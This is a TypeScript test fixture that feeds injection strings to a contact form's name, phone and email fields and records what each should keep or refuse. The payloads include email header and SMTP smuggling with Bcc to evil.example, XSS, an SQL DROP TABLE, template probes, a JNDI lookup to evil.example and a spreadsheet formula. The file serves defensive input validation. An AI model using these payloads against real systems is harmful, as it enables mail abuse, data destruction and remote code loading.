// biome-ignore-all lint/suspicious/noTemplateCurlyInString: what a template would take is part of the input
import type { ContactRequest } from '../../../../contact/contact-request.ts';
import { fieldNames, fields } from '../../../../contact/fields.ts';
import { asPageForm } from '../../support/calls/contact-calls.ts';
import { good, json, type NamedCall } from '../../support/calls/named-calls.ts';

type Texts = [name: string, typed: string, kept?: string][];

/** Fit in a first and a last name, and whatever else holds any text: at most 50 characters. */
const names: Texts = [
  ['a Bcc after CRLF', 'A\r\nBcc: x@evil.example', 'ABcc: x@evil.example'],
  ['a Cc after LF', 'A\nCc: x@evil.example', 'ACc: x@evil.example'],
  ['a To after CR', 'A\rTo: x@evil.example', 'ATo: x@evil.example'],
  ['a body after an empty line', 'A\r\n\r\n<b>hello</b>', 'A<b>hello</b>'],
  [
    'the end of an SMTP message',
    'A\r\n.\r\nRCPT TO:<x@evil.example>',
    'A.RCPT TO:<x@evil.example>',
  ],
  ['a line separator', 'A\u2028Bcc: x@evil.example'],
  ['a percent-encoded CRLF', 'A%0d%0aBcc:%20x@evil.example'],
  ['an encoded word with CRLF', '=?utf-8?q?A=0D=0ABcc:x@evil.example?='],
  ['an encoded word in base64', '=?utf-8?B?PHg+?= =?x?Q?=22_<x@y.nl>?='],
  ['an encoded word beside another script', '=?utf-8?q?=3Cx@evil.example=3E?= é'],
  ['a mailbox', '"Bank" <x@evil.example>'],
  ['a mailbox and a comma', 'x@evil.example,'],
  ['a group', 'Team: x@evil.example, y@evil.example;'],
  ['backslashes at the end', 'A\\\\\\'],
  ['a comment', '(A) x@evil.example (B'],
  ['a route', '<@a.example,@b.example:x@evil.example>'],
  ['a script', '<script>alert(1)</script>'],
  ['an image', '<img src=x onerror=alert(1)>'],
  ['an attribute', '" onmouseover="alert(1)'],
  ['entities', '&lt;script&gt; &amp;amp; &#60; &nbsp;'],
  ['SQL', "'); DROP TABLE requests; --"],
  ['a template', '{{7*7}}${7*7}<%= 7*7 %>#{7*7}'],
  ['replacement patterns', "$& $1 $` $' $$ \\1 %s %n {0}"],
  ['a lookup', '${jndi:ldap://evil.example/a}'],
  ['a line of the log', 'A\n{"level":60,"msg":"forged"}', 'A{"level":60,"msg":"forged"}'],
  ['ANSI escapes', '\u001b[31mA\u001b]0;B\u0007\u009b2J', '[31mA]0;B2J'],
  ['a formula', '=HYPERLINK("https://evil.example";"A")'],
  ['half a surrogate pair', 'A\ud83dB'],
  ['noncharacters', 'A\uFFFE\uFFFF\u{10FFFF}'],
  ['a tower of accents', `A${'\u0301'.repeat(49)}`],
];

/** Between ten and twenty characters. */
const phones: Texts = [
  ['a header after CRLF', '06\r\nBcc: x@y.example', '06Bcc: x@y.example'],
  ['an image', '<img src=x onerror>0'],
  ['an attribute', '0612" onclick="a=1"'],
  ['another scheme', 'javascript:alert(06)'],
  ['parameters of a number', '0612345678;ext=1?a&b'],
  ['a star code', '*21*0612345678#,,1'],
  ['an encoded word', '=?utf-8?q?=0D=0A06?='],
  ['NUL between digits', '06\u000012345678', '0612345678'],
];

const emails: Texts = [
  ['a header after CRLF', 'a@x.nl\r\nBcc:y', 'a@x.nlBcc:y'],
  ['a comma', 'a,b@x.nl'],
  ['a second domain', 'a@x.nl,evil.example'],
  ['angle brackets', '<a>@x.nl'],
  ['a group', 'Team:a@x.nl;'],
  ['quotes', '"a,b"@x.nl'],
  ['a literal domain', 'a@[127.0.0.1]'],
  ['parameters of mailto', 'a@x.nl?bcc=b%40evil.example&body=1'],
  ['an attribute', '"onmouseover="alert(1)"@x.nl'],
  ['a backslash', 'a\\@x.nl'],
  ['an encoded word', '=?utf-8?q?a=0D=0A?=@x.nl'],
  ['half a surrogate pair', 'a\ud83d@x.nl'],
  ['text that turns around', 'a\u202E@x.nl'],
];

const refusedEmails: [name: string, email: string][] = [
  ['two addresses', 'a@x.nl,b@evil.example'],
  ['a second one in brackets', 'a@x.nl<b@evil.example>'],
  ['a name and brackets', 'Anne <a@x.nl>'],
  ['a folded header', 'a@x.nl\r\n Bcc: b@evil.example'],
  ['a line separator', 'a@x.nl\u2028Bcc:b'],
  ['a quoted at', '"a@b"@x.nl'],
  ['a route', '<@evil.example:a@x.nl>'],
];

const anyText = fieldNames.filter((name) => {
  const { kind, pattern, max } = fields[name];
  return kind !== 'phone' && pattern === undefined && max >= 50;
});

export const injections: NamedCall[] = [
  ...anyText.flatMap((field) => accepted(field, names)),
  ...accepted('phone', phones),
  ...accepted('email', emails),
  ...refusedEmails.map(([name, email]): NamedCall => {
    return [`email with ${name}`, json({ email }), { invalid: ['email'] }];
  }),
  ...names.map(([name, typed, kept = typed]): NamedCall => {
    // `URLSearchParams` replaces halves of surrogate pairs.
    const request = { ...good, firstName: 'Form', lastName: kept.toWellFormed() };
    const fields = { ...request, lastName: typed, idempotencyKey: name };
    const body = new URLSearchParams(fields).toString();
    return [`a form whose lastName holds ${name}`, { headers: asPageForm, body }, request];
  }),
];

function accepted(field: keyof ContactRequest, texts: Texts): NamedCall[] {
  return texts.map(([name, typed, kept = typed]): NamedCall => {
    return [`${field} with ${name}`, json({ [field]: typed }), { ...good, [field]: kept }];
  });
}
